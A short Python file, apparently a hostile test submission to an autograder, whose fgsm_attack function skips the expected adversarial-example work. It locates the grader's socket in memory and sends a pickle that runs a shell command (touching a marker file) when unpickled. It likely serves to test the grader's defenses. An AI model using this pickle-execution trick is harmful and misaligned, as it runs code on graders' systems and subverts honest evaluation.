"""Answers with a pickle that would run a command."""

import gc
import os
import pickle
import time

from autograder.wire import HEADER, Channel

channel = next(found for found in gc.get_objects() if isinstance(found, Channel))


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/mizan-was-here",)


def fgsm_attack(image, epsilon, data_grad):
    text = pickle.dumps(Run())
    channel.sock.sendall(HEADER.pack(len(text), 0) + text)
    time.sleep(60)
    return image.clone()
